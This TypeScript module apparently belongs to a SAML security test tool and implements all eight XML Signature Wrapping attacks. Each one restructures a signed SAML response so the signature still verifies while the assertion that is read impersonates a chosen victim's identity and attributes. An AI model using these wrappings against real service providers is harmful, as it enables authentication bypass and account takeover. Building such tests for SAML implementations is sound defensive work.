/**
 * The eight ways of wrapping a signed SAML message so that the signature still fits while another assertion is read
 * (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", in the numbering of the usual test tools).
 */
import type { Person } from '../people';
import { toAttributes } from './attributes';
import type { Edit } from './mint-edits';
import { namespaces } from './identifiers';
import { childrenOf, elementsOf } from './xml';

/** 1 and 2 need a signed response; 3 to 8 a signed assertion. */
export const wrappings = [1, 2, 3, 4, 5, 6, 7, 8] as const;
export type Wrapping = (typeof wrappings)[number];

/** Rearranges a signed response so that the readable assertion says `victim`. Use it as tampering. */
export function wrap(which: Wrapping, victim: Person): Edit {
  return (document) => {
    const response = document.documentElement;
    const assertion = childrenOf(response, 'saml:Assertion')[0];
    if (!assertion) throw new Error('There is no assertion to wrap');
    if (which === 1 || which === 2) wrapResponse(which, response, victim);
    else wrapAssertion[which](response, assertion, victim);
  };
}

function wrapResponse(which: 1 | 2, response: Element, victim: Person): void {
  const signature = signatureOf(response);
  const original = withoutSignature(response);
  if (which === 1) signature.appendChild(original);
  else response.insertBefore(original, signature);
  response.setAttribute('ID', '_evil_response');
  impersonate(response, victim, original);
}

const wrapAssertion: Record<
  Exclude<Wrapping, 1 | 2>,
  (response: Element, assertion: Element, victim: Person) => void
> = {
  3: (response, assertion, victim) => {
    response.insertBefore(evilCopy(assertion, victim), assertion);
  },
  4: (response, assertion, victim) => {
    const evil = evilCopy(assertion, victim);
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
  },
  5: (response, assertion, victim) => {
    const original = withoutSignature(assertion);
    makeEvil(assertion, victim);
    response.appendChild(original);
  },
  6: (_response, assertion, victim) => {
    const original = withoutSignature(assertion);
    makeEvil(assertion, victim);
    signatureOf(assertion).appendChild(original);
  },
  7: (response, assertion, victim) => {
    const evil = withoutSignature(assertion);
    impersonate(evil, victim);
    const extensions = response.ownerDocument.createElementNS(namespaces.samlp, 'samlp:Extensions');
    extensions.appendChild(evil);
    response.insertBefore(extensions, assertion);
  },
  8: (_response, assertion, victim) => {
    const original = withoutSignature(assertion);
    makeEvil(assertion, victim);
    const object = assertion.ownerDocument.createElementNS(namespaces.ds, 'ds:Object');
    object.appendChild(original);
    signatureOf(assertion).appendChild(object);
  },
};

function evilCopy(assertion: Element, victim: Person): Element {
  const copy = withoutSignature(assertion);
  makeEvil(copy, victim);
  return copy;
}

function makeEvil(assertion: Element, victim: Person): void {
  assertion.setAttribute('ID', '_evil_assertion');
  impersonate(assertion, victim);
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  for (const signature of childrenOf(copy, 'ds:Signature')) copy.removeChild(signature);
  return copy;
}

function signatureOf(element: Element): Element {
  const [signature] = childrenOf(element, 'ds:Signature');
  if (!signature) throw new Error(`The ${element.localName} to wrap is not signed`);
  return signature;
}

/** Rewrites the subject and the attributes everywhere in `element`, but not in `except`. */
function impersonate(element: Element, victim: Person, except?: Element): void {
  const isSpared = (node: Element): boolean =>
    except !== undefined && [except, ...elementsOf(except, node.nodeName)].includes(node);
  for (const nameId of elementsOf(element, 'saml:NameID')) {
    if (!isSpared(nameId)) nameId.textContent = victim.email;
  }
  const attributes = toAttributes(victim, 'plain');
  for (const attribute of elementsOf(element, 'saml:Attribute')) {
    const values = attributes.find(({ name }) => name === attribute.getAttribute('Name'))?.values;
    if (isSpared(attribute) || !values) continue;
    elementsOf(attribute, 'saml:AttributeValue').forEach((value, index) => {
      value.textContent = values[index] ?? values[0] ?? '';
    });
  }
}
